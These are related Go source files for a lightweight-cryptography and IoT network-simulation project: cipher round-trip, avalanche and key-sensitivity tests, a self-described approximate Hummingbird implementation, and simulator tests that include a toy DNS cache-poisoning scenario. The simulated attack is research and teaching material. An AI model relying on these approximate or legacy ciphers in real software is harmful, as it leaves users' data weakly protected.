func TestRoundTripAllAlgorithms(t *testing.T) {
	reg := NewRegistry()
	rng := rand.New(rand.NewSource(7))
	for _, info := range reg.All() {
		for _, kb := range info.KeySizes {
			info, kb := info, kb
			t.Run(info.Name+"/"+itoa(kb), func(t *testing.T) {
				key := make([]byte, kb/8)
				for trial := 0; trial < 50; trial++ {
					rng.Read(key)
					blk, err := info.New(key)
					if err != nil {
						t.Fatalf("New: %v", err)
					}
					if got := blk.BlockSize() * 8; got != info.BlockSize {
						t.Fatalf("BlockSize = %d bits, registry says %d", got, info.BlockSize)
					}
					pt := make([]byte, blk.BlockSize())
					rng.Read(pt)
					ct := make([]byte, len(pt))
					back := make([]byte, len(pt))
					blk.Encrypt(ct, pt)
					blk.Decrypt(back, ct)
					if !bytes.Equal(back, pt) {
						t.Fatalf("roundtrip failed: pt=%x ct=%x back=%x key=%x", pt, ct, back, key)
					}
				}
			})
		}
	}
}

// TestEncryptionIsPermutation checks injectivity on a sample: distinct
// plaintexts never map to the same ciphertext.
func TestEncryptionIsPermutation(t *testing.T) {
	reg := NewRegistry()
	rng := rand.New(rand.NewSource(11))
	for _, info := range reg.All() {
		info := info
		t.Run(info.Name, func(t *testing.T) {
			key := make([]byte, info.DefaultKeyBits()/8)
			rng.Read(key)
			blk, err := info.New(key)
			if err != nil {
				t.Fatalf("New: %v", err)
			}
			seen := make(map[string]string)
			pt := make([]byte, blk.BlockSize())
			ct := make([]byte, blk.BlockSize())
			for trial := 0; trial < 300; trial++ {
				rng.Read(pt)
				blk.Encrypt(ct, pt)
				if prev, ok := seen[string(ct)]; ok && prev != string(pt) {
					t.Fatalf("collision: %x and %x both encrypt to %x", prev, pt, ct)
				}
				seen[string(ct)] = string(pt)
			}
		})
	}
}

// TestKeySensitivity verifies that flipping any single key bit changes the
// ciphertext of a fixed plaintext (no equivalent neighbouring keys). DES
// variants are exempt for parity bits, which the algorithm ignores by
// design.
func TestKeySensitivity(t *testing.T) {
	reg := NewRegistry()
	rng := rand.New(rand.NewSource(13))
	parityExempt := map[string]bool{"DES": true, "3DES": true, "DESL": true}
	for _, info := range reg.All() {
		info := info
		t.Run(info.Name, func(t *testing.T) {
			key := make([]byte, info.DefaultKeyBits()/8)
			rng.Read(key)
			blk, err := info.New(key)
			if err != nil {
				t.Fatalf("New: %v", err)
			}
			pt := make([]byte, blk.BlockSize())
			rng.Read(pt)
			base := make([]byte, blk.BlockSize())
			blk.Encrypt(base, pt)

			changed := 0
			total := 0
			for i := range key {
				for b := 0; b < 8; b++ {
					if parityExempt[info.Name] && b == 0 {
						continue // LSB of each DES key byte is parity
					}
					total++
					mut := make([]byte, len(key))
					copy(mut, key)
					mut[i] ^= 1 << uint(b)
					mb, err := info.New(mut)
					if err != nil {
						t.Fatalf("New(mutated): %v", err)
					}
					ct := make([]byte, blk.BlockSize())
					mb.Encrypt(ct, pt)
					if !bytes.Equal(ct, base) {
						changed++
					}
				}
			}
			// Every effective key bit must matter. Hummingbird's 16-bit
			// block can collide by chance on a tiny output space, so allow
			// a small slack for 16-bit blocks.
			minOK := total
			if info.BlockSize <= 16 {
				minOK = total - 2
			}
			if changed < minOK {
				t.Errorf("only %d/%d key-bit flips changed the ciphertext", changed, total)
			}
		})
	}
}

// TestAvalanche verifies that flipping one plaintext bit flips a healthy
// fraction of ciphertext bits on average (> 25% for 64-bit+ blocks).
func TestAvalanche(t *testing.T) {
	reg := NewRegistry()
	rng := rand.New(rand.NewSource(17))
	for _, info := range reg.All() {
		info := info
		if info.BlockSize < 64 {
			continue // 16-bit blocks have too little room for this metric
		}
		t.Run(info.Name, func(t *testing.T) {
			key := make([]byte, info.DefaultKeyBits()/8)
			rng.Read(key)
			blk, err := info.New(key)
			if err != nil {
				t.Fatalf("New: %v", err)
			}
			n := blk.BlockSize()
			var flipped, total int
			for trial := 0; trial < 100; trial++ {
				pt := make([]byte, n)
				rng.Read(pt)
				base := make([]byte, n)
				blk.Encrypt(base, pt)
				mut := make([]byte, n)
				copy(mut, pt)
				bit := rng.Intn(n * 8)
				mut[bit/8] ^= 1 << uint(bit%8)
				ct := make([]byte, n)
				blk.Encrypt(ct, mut)
				for i := range ct {
					flipped += popcount8(ct[i] ^ base[i])
				}
				total += n * 8
			}
			ratio := float64(flipped) / float64(total)
			if ratio < 0.25 || ratio > 0.75 {
				t.Errorf("avalanche ratio = %.3f, want in [0.25, 0.75]", ratio)
			}
		})
	}
}

func popcount8(b byte) int {
	n := 0
	for ; b != 0; b &= b - 1 {
		n++
	}
	return n
}

// TestDESMatchesStdlib cross-checks the from-scratch DES and 3DES against
// crypto/des over random keys and blocks.
func TestDESMatchesStdlib(t *testing.T) {
	f := func(key [8]byte, pt [8]byte) bool {
		ours, err := NewDES(key[:])
		if err != nil {
			return false
		}
		ref, err := stddes.NewCipher(key[:])
		if err != nil {
			return false
		}
		a := make([]byte, 8)
		b := make([]byte, 8)
		ours.Encrypt(a, pt[:])
		ref.Encrypt(b, pt[:])
		return bytes.Equal(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestTripleDESMatchesStdlib(t *testing.T) {
	f := func(key [24]byte, pt [8]byte) bool {
		ours, err := NewTripleDES(key[:])
		if err != nil {
			return false
		}
		ref, err := stddes.NewTripleDESCipher(key[:])
		if err != nil {
			return false
		}
		a := make([]byte, 8)
		b := make([]byte, 8)
		ours.Encrypt(a, pt[:])
		ref.Encrypt(b, pt[:])
		return bytes.Equal(a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Error(err)
	}
}

// TestRC5RoundsParameter exercises non-default round counts.
func TestRC5RoundsParameter(t *testing.T) {
	key := bytes.Repeat([]byte{0xAB}, 16)
	for _, rounds := range []int{1, 8, 20, 255} {
		blk, err := NewRC5(key, rounds)
		if err != nil {
			t.Fatalf("NewRC5(r=%d): %v", rounds, err)
		}
		pt := []byte{1, 2, 3, 4, 5, 6, 7, 8}
		ct := make([]byte, 8)
		back := make([]byte, 8)
		blk.Encrypt(ct, pt)
		blk.Decrypt(back, ct)
		if !bytes.Equal(back, pt) {
			t.Errorf("RC5 r=%d roundtrip failed", rounds)
		}
	}
	if _, err := NewRC5(key, 0); err == nil {
		t.Error("NewRC5(r=0) accepted")
	}
	if _, err := NewRC5(key, 256); err == nil {
		t.Error("NewRC5(r=256) accepted")
	}
}

// TestHummingbirdRotorStream checks the stateful rotor mode decrypts a
// stream in lockstep and is position-dependent.
func TestHummingbirdRotorStream(t *testing.T) {
	key := bytes.Repeat([]byte{0x5A}, 32)
	iv := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	enc, err := NewHummingbirdRotor(key, iv)
	if err != nil {
		t.Fatal(err)
	}
	dec, err := NewHummingbirdRotor(key, iv)
	if err != nil {
		t.Fatal(err)
	}
	words := []uint16{0x0000, 0x0000, 0xBEEF, 0x1234, 0x0000}
	var cts []uint16
	for _, w := range words {
		cts = append(cts, enc.EncryptWord(w))
	}
	if cts[0] == cts[1] {
		t.Error("rotor mode produced identical ciphertexts for repeated plaintext words")
	}
	for i, ct := range cts {
		if got := dec.DecryptWord(ct); got != words[i] {
			t.Errorf("word %d: decrypt = %04x, want %04x", i, got, words[i])
		}
	}
}

// TestKeySizeErrors verifies constructors reject bad key lengths.
func TestKeySizeErrors(t *testing.T) {
	reg := NewRegistry()
	for _, info := range reg.All() {
		if info.Name == "RC5" {
			continue // RC5 accepts any key of 0..255 bytes by design
		}
		if _, err := info.New(make([]byte, 3)); err == nil {
			t.Errorf("%s accepted a 3-byte key", info.Name)
		}
	}
	var kse KeySizeError
	_, err := NewTEA(make([]byte, 5))
	if !asKeySizeError(err, &kse) || kse.Len != 5 {
		t.Errorf("NewTEA error = %v, want KeySizeError with Len 5", err)
	}
}

func asKeySizeError(err error, out *KeySizeError) bool {
	e, ok := err.(KeySizeError)
	if ok {
		*out = e
	}
	return ok
}

func itoa(n int) string {
	if n == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for n > 0 {
		i--
		buf[i] = byte('0' + n%10)
		n /= 10
	}
	return string(buf[i:])
}
