package proto

import (
	"strings"
	"testing"
)

func TestNewRegistryError(t *testing.T) {
	r, err := NewRegistry()
	if err != nil {
		t.Fatalf("NewRegistry() on the compiled-in table: %v", err)
	}
	if r == nil {
		t.Fatal("NewRegistry() returned nil registry without error")
	}
}

func TestRegistryPopulated(t *testing.T) {
	r := MustRegistry()
	if got := len(r.All()); got < 20 {
		t.Fatalf("registry has %d protocols, want >= 20", got)
	}
	for _, name := range []string{"ZigBee", "Z-Wave", "6LoWPAN", "TLS", "DTLS", "UPnP", "DNS", "IEEE 802.15.4"} {
		if _, ok := r.Lookup(name); !ok {
			t.Errorf("missing protocol %q from Figure 2", name)
		}
	}
}

func TestEveryLayerRepresented(t *testing.T) {
	r := MustRegistry()
	for _, l := range []Layer{LayerPhysical, LayerNetwork, LayerTransport, LayerApplication} {
		if len(r.AtLayer(l)) == 0 {
			t.Errorf("layer %s has no protocols", l)
		}
	}
}

func TestAddValidation(t *testing.T) {
	r := MustRegistry()
	if err := r.Add(Protocol{Name: "", Layer: LayerNetwork}); err == nil {
		t.Error("Add accepted empty name")
	}
	if err := r.Add(Protocol{Name: "TLS", Layer: LayerTransport}); err == nil {
		t.Error("Add accepted duplicate name")
	}
	if err := r.Add(Protocol{Name: "Bogus", Layer: Layer(9)}); err == nil {
		t.Error("Add accepted invalid layer")
	}
	if err := r.Add(Protocol{Name: "LoRaWAN", Layer: LayerPhysical}); err != nil {
		t.Errorf("Add valid protocol: %v", err)
	}
	if _, ok := r.Lookup("LoRaWAN"); !ok {
		t.Error("added protocol not found")
	}
}

func TestCapabilitiesScoreAndString(t *testing.T) {
	all := Capabilities{Encryption: true, Integrity: true, ReplayProtection: true, Authentication: true, AccessControl: true}
	if all.Score() != 5 {
		t.Errorf("full caps score = %d, want 5", all.Score())
	}
	var none Capabilities
	if none.Score() != 0 || none.String() != "none" {
		t.Errorf("empty caps = %d %q", none.Score(), none.String())
	}
	tls, _ := MustRegistry().Lookup("TLS")
	if !strings.Contains(tls.Caps.String(), "enc") {
		t.Errorf("TLS caps string %q missing enc", tls.Caps.String())
	}
}

func TestSecureChannelsOutscoreCleartext(t *testing.T) {
	r := MustRegistry()
	tls, _ := r.Lookup("TLS")
	http, _ := r.Lookup("HTTP")
	upnp, _ := r.Lookup("UPnP")
	if tls.Caps.Score() <= http.Caps.Score() {
		t.Error("TLS does not outscore HTTP")
	}
	if upnp.Caps.Score() != 0 {
		t.Errorf("UPnP score = %d, want 0 (the paper's open-port example)", upnp.Caps.Score())
	}
}

func TestRenderFigure2(t *testing.T) {
	out := MustRegistry().RenderFigure2()
	for _, want := range []string{"Figure 2", "Application", "Transport", "Network", "Physical/Link", "ZigBee", "DTLS"} {
		if !strings.Contains(out, want) {
			t.Errorf("render missing %q", want)
		}
	}
}

func TestLayerString(t *testing.T) {
	if Layer(42).String() != "Layer(42)" {
		t.Errorf("unknown layer string = %q", Layer(42).String())
	}
}
