package lwc

import (
	"crypto/cipher"
	"encoding/binary"
	"math/bits"
)

// Hummingbird (Engels et al., 2010) and Hummingbird-2 (Engels et al., RFID
// Sec 2011) are ultra-lightweight 16-bit block designs with 256-bit keys
// for RFID-class devices. The full designs are rotor-machine hybrids with
// internal state; Table III lists their core keyed permutation (16-bit
// block, SPN, 4 rounds), which is what this file implements as a
// cipher.Block — the WD16-style function: four rounds of subkey XOR, four
// 4-bit S-boxes, and the linear transform L(x) = x ^ (x<<<6) ^ (x<<<10).
// These are structure-faithful reimplementations validated by property
// tests. The stateful rotor mode of the original design is provided
// separately by HummingbirdRotor.

// hb2SBoxes are the four 4-bit S-boxes of the WD16-style round.
var hb2SBoxes = [4][16]byte{
	{0x7, 0xC, 0xE, 0x9, 0x2, 0x1, 0x5, 0xF, 0xB, 0x6, 0xD, 0x0, 0x4, 0x8, 0xA, 0x3},
	{0x4, 0xA, 0x1, 0x6, 0x8, 0xF, 0x7, 0xC, 0x3, 0x0, 0xE, 0xD, 0x5, 0x9, 0xB, 0x2},
	{0x2, 0xF, 0xC, 0x1, 0x5, 0x6, 0xA, 0xD, 0xE, 0x8, 0x3, 0x4, 0x0, 0xB, 0x9, 0x7},
	{0xF, 0x4, 0x5, 0x8, 0x9, 0x7, 0x2, 0x1, 0xA, 0x3, 0x0, 0xE, 0x6, 0xC, 0xD, 0xB},
}

var hb2SBoxesInv = func() [4][16]byte {
	var inv [4][16]byte
	for i := range hb2SBoxes {
		inv[i] = invert4(hb2SBoxes[i])
	}
	return inv
}()

// hbLinear is L(x) = x ^ (x<<<6) ^ (x<<<10); hbLinearInv is its GF(2)
// inverse, precomputed once.
func hbLinear(x uint16) uint16 {
	return x ^ bits.RotateLeft16(x, 6) ^ bits.RotateLeft16(x, 10)
}

var hbLinearInvMat = invertLinear16(hbLinear)

func hbLinearInv(x uint16) uint16 { return applyLinear16(hbLinearInvMat, x) }

func hbSub(x uint16, boxes *[4][16]byte) uint16 {
	return uint16(boxes[0][x>>12&0xF])<<12 |
		uint16(boxes[1][x>>8&0xF])<<8 |
		uint16(boxes[2][x>>4&0xF])<<4 |
		uint16(boxes[3][x&0xF])
}

type hummingbird struct {
	// rk holds 16 round-key words: 4 rounds x 4 words consumed one per
	// round per the WD16 keying, plus final whitening from the remainder.
	rk    [16]uint16
	white uint16
	// v2 selects the Hummingbird-2 variant (extra post-round rotation).
	v2 bool
}

var _ cipher.Block = (*hummingbird)(nil)

// NewHummingbird returns the original Hummingbird core permutation for a
// 32-byte (256-bit) key.
func NewHummingbird(key []byte) (cipher.Block, error) {
	return newHB(key, false, "Hummingbird")
}

// NewHummingbird2 returns the Hummingbird-2 core permutation for a 32-byte
// (256-bit) key.
func NewHummingbird2(key []byte) (cipher.Block, error) {
	return newHB(key, true, "Hummingbird2")
}

func newHB(key []byte, v2 bool, name string) (cipher.Block, error) {
	if len(key) != 32 {
		return nil, KeySizeError{Algorithm: name, Len: len(key)}
	}
	c := &hummingbird{v2: v2}
	for i := 0; i < 16; i++ {
		c.rk[i] = binary.BigEndian.Uint16(key[2*i:])
	}
	for _, w := range c.rk {
		c.white ^= w
	}
	return c, nil
}

func (c *hummingbird) BlockSize() int { return 2 }

func (c *hummingbird) Encrypt(dst, src []byte) {
	checkBlock("Hummingbird", 2, dst, src)
	x := binary.BigEndian.Uint16(src)
	for r := 0; r < 4; r++ {
		x ^= c.rk[4*r] ^ c.rk[4*r+1]
		x = hbSub(x, &hb2SBoxes)
		x = hbLinear(x)
		if c.v2 {
			x ^= c.rk[4*r+2]
			x = bits.RotateLeft16(x, 3)
		}
	}
	x ^= c.white
	binary.BigEndian.PutUint16(dst, x)
}

func (c *hummingbird) Decrypt(dst, src []byte) {
	checkBlock("Hummingbird", 2, dst, src)
	x := binary.BigEndian.Uint16(src)
	x ^= c.white
	for r := 3; r >= 0; r-- {
		if c.v2 {
			x = bits.RotateLeft16(x, -3)
			x ^= c.rk[4*r+2]
		}
		x = hbLinearInv(x)
		x = hbSub(x, &hb2SBoxesInv)
		x ^= c.rk[4*r] ^ c.rk[4*r+1]
	}
	binary.BigEndian.PutUint16(dst, x)
}

// HummingbirdRotor is the stateful rotor-machine encryption mode of the
// original Hummingbird design: four chained core permutations whose
// internal rotor registers RS1..RS4 evolve with every block, so equal
// plaintext blocks encrypt differently over a stream. It is NOT a
// cipher.Block; both sides must process blocks in the same order, as with
// a synchronous stream cipher.
type HummingbirdRotor struct {
	e1, e2, e3, e4 cipher.Block
	rs             [4]uint16
	lfsr           uint16
}

// NewHummingbirdRotor builds the rotor-machine mode over a 32-byte key and
// an 8-byte IV that seeds the rotor registers.
func NewHummingbirdRotor(key []byte, iv []byte) (*HummingbirdRotor, error) {
	if len(key) != 32 {
		return nil, KeySizeError{Algorithm: "HummingbirdRotor", Len: len(key)}
	}
	if len(iv) != 8 {
		return nil, KeySizeError{Algorithm: "HummingbirdRotor/IV", Len: len(iv)}
	}
	// The four rotors are keyed with rotations of the master key so each
	// stage is an independent permutation.
	mk := func(rot int) cipher.Block {
		k := make([]byte, 32)
		for i := range k {
			k[i] = key[(i+rot)%32]
		}
		b, err := NewHummingbird(k)
		if err != nil {
			panic(err) // length is fixed above
		}
		return b
	}
	r := &HummingbirdRotor{e1: mk(0), e2: mk(8), e3: mk(16), e4: mk(24)}
	for i := range r.rs {
		r.rs[i] = binary.BigEndian.Uint16(iv[2*i:])
	}
	r.lfsr = r.rs[0] | 1
	return r, nil
}

func (r *HummingbirdRotor) encBlock(b cipher.Block, x uint16) uint16 {
	var in, out [2]byte
	binary.BigEndian.PutUint16(in[:], x)
	b.Encrypt(out[:], in[:])
	return binary.BigEndian.Uint16(out[:])
}

func (r *HummingbirdRotor) decBlock(b cipher.Block, x uint16) uint16 {
	var in, out [2]byte
	binary.BigEndian.PutUint16(in[:], x)
	b.Decrypt(out[:], in[:])
	return binary.BigEndian.Uint16(out[:])
}

func (r *HummingbirdRotor) step(v1, v2, v3 uint16) {
	// Rotor state update per the Hummingbird skeleton: modular additions
	// of intermediate values plus an LFSR tick on RS3.
	r.lfsr = r.lfsr>>1 ^ (-(r.lfsr & 1) & 0xB400)
	r.rs[0] += v1
	r.rs[1] += v2
	r.rs[2] += r.lfsr
	r.rs[3] += r.rs[0] + v3
}

// EncryptWord encrypts one 16-bit word and advances the rotor state.
func (r *HummingbirdRotor) EncryptWord(pt uint16) uint16 {
	v1 := r.encBlock(r.e1, pt+r.rs[0])
	v2 := r.encBlock(r.e2, v1+r.rs[1])
	v3 := r.encBlock(r.e3, v2+r.rs[2])
	ct := r.encBlock(r.e4, v3+r.rs[3])
	r.step(v1, v2, v3)
	return ct
}

// DecryptWord decrypts one 16-bit word and advances the rotor state in
// lockstep with the encrypting side.
func (r *HummingbirdRotor) DecryptWord(ct uint16) uint16 {
	v3 := r.decBlock(r.e4, ct) - r.rs[3]
	v2 := r.decBlock(r.e3, v3) - r.rs[2]
	v1 := r.decBlock(r.e2, v2) - r.rs[1]
	pt := r.decBlock(r.e1, v1) - r.rs[0]
	r.step(v1, v2, v3)
	return pt
}
