package netsim

import (
	"testing"
	"time"

	"xlf/internal/sim"
)

type sink struct {
	addr Addr
	got  []*Packet
}

func (s *sink) Addr() Addr                   { return s.addr }
func (s *sink) Handle(_ *Network, p *Packet) { s.got = append(s.got, p) }

func newTestNet(t *testing.T) (*sim.Kernel, *Network) {
	t.Helper()
	k := sim.NewKernel(42)
	return k, New(k)
}

func TestSendDeliver(t *testing.T) {
	k, n := newTestNet(t)
	a := &sink{addr: "lan:a"}
	b := &sink{addr: "lan:b"}
	if err := n.Attach(a, DefaultLAN()); err != nil {
		t.Fatal(err)
	}
	if err := n.Attach(b, DefaultLAN()); err != nil {
		t.Fatal(err)
	}
	n.Send(&Packet{Src: "lan:a", Dst: "lan:b", Size: 100, Proto: "HTTP"})
	if err := k.Run(time.Second); err != nil {
		t.Fatal(err)
	}
	if len(b.got) != 1 {
		t.Fatalf("b received %d packets, want 1", len(b.got))
	}
	p := b.got[0]
	if p.DeliveredAt <= p.SentAt {
		t.Error("no transmission delay modeled")
	}
	delivered, dropped, bytes := n.Stats()
	if delivered != 1 || dropped != 0 || bytes != 100 {
		t.Errorf("stats = %d/%d/%d, want 1/0/100", delivered, dropped, bytes)
	}
}

func TestAttachDuplicateRejected(t *testing.T) {
	_, n := newTestNet(t)
	a := &sink{addr: "lan:a"}
	if err := n.Attach(a, DefaultLAN()); err != nil {
		t.Fatal(err)
	}
	if err := n.Attach(a, DefaultLAN()); err == nil {
		t.Error("duplicate attach accepted")
	}
	if err := n.Attach(&sink{addr: ""}, DefaultLAN()); err == nil {
		t.Error("empty address accepted")
	}
}

func TestUnknownDestinationDropped(t *testing.T) {
	k, n := newTestNet(t)
	a := &sink{addr: "lan:a"}
	n.Attach(a, DefaultLAN())
	n.Send(&Packet{Src: "lan:a", Dst: "lan:ghost", Size: 50})
	k.Run(time.Second)
	_, dropped, _ := n.Stats()
	if dropped != 1 {
		t.Errorf("dropped = %d, want 1", dropped)
	}
}

func TestLossyLink(t *testing.T) {
	k, n := newTestNet(t)
	a := &sink{addr: "lan:a"}
	b := &sink{addr: "lan:b"}
	lossy := DefaultLAN()
	lossy.Loss = 0.5
	n.Attach(a, lossy)
	n.Attach(b, DefaultLAN())
	for i := 0; i < 200; i++ {
		n.Send(&Packet{Src: "lan:a", Dst: "lan:b", Size: 10})
	}
	k.Run(time.Minute)
	if got := len(b.got); got < 20 || got > 180 {
		t.Errorf("received %d/200 with 50%% loss, wildly off", got)
	}
}

func TestBandwidthSerialisation(t *testing.T) {
	k, n := newTestNet(t)
	slow := Link{Latency: 0, Bandwidth: 1000} // 1 KB/s
	b := &sink{addr: "lan:b"}
	n.Attach(&sink{addr: "lan:a"}, slow)
	n.Attach(b, Link{})
	n.Send(&Packet{Src: "lan:a", Dst: "lan:b", Size: 500})
	k.Run(10 * time.Second)
	if len(b.got) != 1 {
		t.Fatal("packet lost")
	}
	if d := b.got[0].DeliveredAt; d < 450*time.Millisecond || d > 550*time.Millisecond {
		t.Errorf("500B over 1KB/s delivered at %s, want ~500ms", d)
	}
}

func TestZigbeeSlowerThanWiFi(t *testing.T) {
	k, n := newTestNet(t)
	zb := &sink{addr: "lan:zb"}
	wifi := &sink{addr: "lan:wifi"}
	dst1 := &sink{addr: "lan:d1"}
	dst2 := &sink{addr: "lan:d2"}
	n.Attach(zb, DefaultZigbee())
	n.Attach(wifi, DefaultLAN())
	n.Attach(dst1, Link{})
	n.Attach(dst2, Link{})
	n.Send(&Packet{Src: "lan:zb", Dst: "lan:d1", Size: 1000})
	n.Send(&Packet{Src: "lan:wifi", Dst: "lan:d2", Size: 1000})
	k.Run(time.Minute)
	if len(dst1.got) != 1 || len(dst2.got) != 1 {
		t.Fatal("packets lost")
	}
	if dst1.got[0].DeliveredAt <= dst2.got[0].DeliveredAt {
		t.Error("zigbee not slower than wifi for same payload")
	}
}

func TestTapsSeeCorrectSides(t *testing.T) {
	k, n := newTestNet(t)
	n.Attach(&sink{addr: "lan:a"}, DefaultLAN())
	n.Attach(&sink{addr: "wan:cloud"}, DefaultWAN())
	lan := NewCapture()
	wan := NewCapture()
	n.AddTap(TapLAN, lan.Tap())
	n.AddTap(TapWAN, wan.Tap())

	n.Send(&Packet{Src: "lan:a", Dst: "wan:cloud", Size: 10}) // crosses both
	n.Send(&Packet{Src: "lan:a", Dst: "lan:a", Size: 10})     // LAN only
	k.Run(time.Second)

	if lan.Len() != 2 {
		t.Errorf("LAN tap saw %d, want 2", lan.Len())
	}
	if wan.Len() != 1 {
		t.Errorf("WAN tap saw %d, want 1", wan.Len())
	}
}

func TestCaptureHidesEncryptedContent(t *testing.T) {
	k, n := newTestNet(t)
	n.Attach(&sink{addr: "lan:a"}, DefaultLAN())
	n.Attach(&sink{addr: "lan:b"}, DefaultLAN())
	cap := NewCapture()
	cap.IncludePayloads = true
	n.AddTap(TapLAN, cap.Tap())
	n.Send(&Packet{Src: "lan:a", Dst: "lan:b", Size: 64, Encrypted: true, DNSName: "secret.example", Payload: []byte("secret")})
	n.Send(&Packet{Src: "lan:a", Dst: "lan:b", Size: 64, Proto: "DNS", DNSName: "visible.example", Payload: []byte("plain")})
	k.Run(time.Second)
	recs := cap.Records()
	if len(recs) != 2 {
		t.Fatalf("captured %d, want 2", len(recs))
	}
	for _, r := range recs {
		if r.Encrypted && (r.DNSName != "" || r.Payload != nil) {
			t.Error("capture leaked encrypted content")
		}
		if !r.Encrypted && r.DNSName == "" {
			t.Error("capture dropped cleartext DNS name")
		}
	}
}

func TestGatewayNAT(t *testing.T) {
	k, n := newTestNet(t)
	gw := NewGateway("lan:gw", "wan:home")
	cloud := &sink{addr: "wan:cloud"}
	dev := &sink{addr: "lan:dev"}
	n.Attach(gw, DefaultLAN())
	n.Attach(gw.WANNode(), DefaultWAN())
	n.Attach(cloud, DefaultWAN())
	n.Attach(dev, DefaultLAN())

	err := gw.SendOut(n, &Packet{Src: "lan:dev", SrcPort: 1234, Dst: "wan:cloud", DstPort: 443, Size: 80})
	if err != nil {
		t.Fatal(err)
	}
	k.Run(time.Second)
	if len(cloud.got) != 1 {
		t.Fatalf("cloud received %d, want 1", len(cloud.got))
	}
	out := cloud.got[0]
	if out.Src != "wan:home" {
		t.Errorf("NAT src = %q, want wan:home", out.Src)
	}
	ext, ok := gw.ExternalPortFor("lan:dev", 1234, "wan:cloud", 443)
	if !ok || out.SrcPort != ext {
		t.Errorf("external port mapping inconsistent: pkt=%d map=%d", out.SrcPort, ext)
	}

	// Reply path: cloud answers to the external port; the device gets it.
	n.Send(&Packet{Src: "wan:cloud", SrcPort: 443, Dst: "wan:home", DstPort: ext, Size: 80})
	k.Run(2 * time.Second)
	if len(dev.got) != 1 {
		t.Fatalf("device received %d replies, want 1", len(dev.got))
	}
	if dev.got[0].DstPort != 1234 {
		t.Errorf("un-NATted port = %d, want 1234", dev.got[0].DstPort)
	}
}

func TestGatewayPolicies(t *testing.T) {
	k, n := newTestNet(t)
	gw := NewGateway("lan:gw", "wan:home")
	cloud := &sink{addr: "wan:evil"}
	n.Attach(gw, DefaultLAN())
	n.Attach(gw.WANNode(), DefaultWAN())
	n.Attach(cloud, DefaultWAN())
	n.Attach(&sink{addr: "lan:dev"}, DefaultLAN())

	gw.OutboundPolicy = func(p *Packet) error {
		if p.Dst == "wan:evil" {
			return errBlocked
		}
		return nil
	}
	err := gw.SendOut(n, &Packet{Src: "lan:dev", Dst: "wan:evil", DstPort: 80, Size: 10})
	if err == nil {
		t.Fatal("policy did not block")
	}
	k.Run(time.Second)
	if len(cloud.got) != 0 {
		t.Error("blocked packet delivered")
	}
	bo, _ := gw.Blocked()
	if bo != 1 {
		t.Errorf("blockedOut = %d, want 1", bo)
	}

	// Unsolicited inbound to an unmapped port is dropped.
	n.Send(&Packet{Src: "wan:evil", Dst: "wan:home", DstPort: 9999, Size: 10})
	k.Run(2 * time.Second)
	_, bi := gw.Blocked()
	if bi != 1 {
		t.Errorf("blockedIn = %d, want 1", bi)
	}
}

var errBlocked = &policyError{"blocked by NAC"}

type policyError struct{ s string }

func (e *policyError) Error() string { return e.s }

func TestDNSResolution(t *testing.T) {
	k, n := newTestNet(t)
	srv := NewDNSServer("wan:dns", []DNSRecord{{Name: "api.nest.example", Addr: "wan:nest", TTL: time.Minute}})
	res := NewResolver("lan:resolver", "wan:dns", "DNS")
	n.Attach(srv, DefaultWAN())
	n.Attach(res, DefaultLAN())

	var got Addr
	var gotErr error
	res.Lookup(n, "api.nest.example", func(a Addr, err error) { got, gotErr = a, err })
	k.Run(time.Second)
	if gotErr != nil {
		t.Fatal(gotErr)
	}
	if got != "wan:nest" {
		t.Errorf("resolved %q, want wan:nest", got)
	}

	// Second lookup hits the cache (no new upstream query).
	before := srv.Queries()
	res.Lookup(n, "api.nest.example", func(a Addr, err error) { got = a })
	k.Run(2 * time.Second)
	if srv.Queries() != before {
		t.Error("cache miss on repeated lookup")
	}
	hits, misses, _ := res.Stats()
	if hits != 1 || misses != 1 {
		t.Errorf("resolver stats hits=%d misses=%d, want 1/1", hits, misses)
	}
}

func TestDNSNXDomain(t *testing.T) {
	k, n := newTestNet(t)
	srv := NewDNSServer("wan:dns", nil)
	res := NewResolver("lan:resolver", "wan:dns", "DNS")
	n.Attach(srv, DefaultWAN())
	n.Attach(res, DefaultLAN())
	var gotErr error
	res.Lookup(n, "ghost.example", func(a Addr, err error) { gotErr = err })
	k.Run(time.Second)
	if gotErr == nil {
		t.Error("NXDOMAIN not surfaced")
	}
}

func TestDNSCachePoisoning(t *testing.T) {
	k, n := newTestNet(t)
	n.Attach(NewDNSServer("wan:dns", []DNSRecord{{Name: "fw.vendor.example", Addr: "wan:vendor", TTL: time.Minute}}), DefaultWAN())

	run := func(mode string) (Addr, bool) {
		res := NewResolver(Addr("lan:res-"+mode), "wan:dns", mode)
		n.Attach(res, DefaultLAN())
		defer n.Detach(res.Addr())
		// Off-path attacker races the legitimate answer with a forged
		// response that arrives first (tiny latency).
		n.Send(&Packet{
			Src: "wan:attacker", Dst: res.Addr(), SrcPort: 53, DstPort: 5353,
			Proto: "DNS", Size: 120, DNSName: "fw.vendor.example", Payload: []byte("wan:attacker-fw"),
		})
		var got Addr
		res.Lookup(n, "fw.vendor.example", func(a Addr, err error) { got = a })
		k.Run(k.Now() + 5*time.Second)
		snap := res.CacheSnapshot()
		e, ok := snap["fw.vendor.example"]
		return got, ok && e.Poisoned
	}

	if _, poisoned := run("DNS"); !poisoned {
		t.Error("cleartext DNS resisted off-path poisoning (should be vulnerable)")
	}
	if _, poisoned := run("DoT"); poisoned {
		t.Error("DoT accepted an off-path forgery")
	}
}

func TestFlowStats(t *testing.T) {
	recs := []PacketRecord{
		{Time: 0, Src: "lan:a", Dst: "wan:x", DstPort: 443, Proto: "TLS", Size: 100},
		{Time: time.Second, Src: "lan:a", Dst: "wan:x", DstPort: 443, Proto: "TLS", Size: 300},
		{Time: time.Second, Src: "lan:b", Dst: "wan:y", DstPort: 80, Proto: "HTTP", Size: 50},
	}
	stats := FlowStats(recs)
	if len(stats) != 2 {
		t.Fatalf("flows = %d, want 2", len(stats))
	}
	top := stats[0]
	if top.Key.Src != "lan:a" || top.Bytes != 400 || top.Packets != 2 {
		t.Errorf("top flow = %+v", top)
	}
	if r := top.Rate(); r != 400 {
		t.Errorf("rate = %v, want 400 B/s", r)
	}
}

func TestBroadcast(t *testing.T) {
	k, n := newTestNet(t)
	var sinks []*sink
	for _, a := range []Addr{"lan:a", "lan:b", "lan:c", "wan:x"} {
		s := &sink{addr: a}
		sinks = append(sinks, s)
